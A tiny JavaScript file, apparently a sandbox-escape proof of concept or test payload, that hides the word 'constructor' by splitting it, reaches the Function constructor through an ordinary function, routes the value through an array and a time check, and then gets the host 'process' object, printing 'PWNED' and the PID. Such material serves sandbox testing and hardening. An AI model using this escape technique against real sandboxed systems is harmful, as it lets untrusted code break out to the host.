'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const l = [];
l.splice(0, 0, t);
const o = Date.now() > 1 ? l[0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
